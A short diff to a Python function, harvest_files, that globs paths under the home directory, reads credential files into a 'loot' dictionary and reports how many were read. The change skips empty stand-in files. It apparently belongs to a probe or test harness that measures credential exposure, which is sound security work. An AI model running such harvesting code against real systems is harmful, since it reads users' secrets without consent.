@@ -55,10 +55,12 @@ def harvest_files():
         for path in glob.glob(os.path.expanduser(pattern)):
             try:
                 with open(path, "rb") as f:
-                    loot[path] = f.read(4096).decode("utf-8", "replace")
+                    data = f.read(4096).decode("utf-8", "replace")
             except OSError:
-                pass
-    report("file-harvest", bool(loot), f"{len(loot)} credential files read: {sorted(loot)}")
+                continue
+            if data.strip():  # an empty stand-in is not a stolen credential
+                loot[path] = data
+    report("file-harvest", bool(loot), f"{len(loot)} credential files with content: {sorted(loot)}")
     return loot
 
 
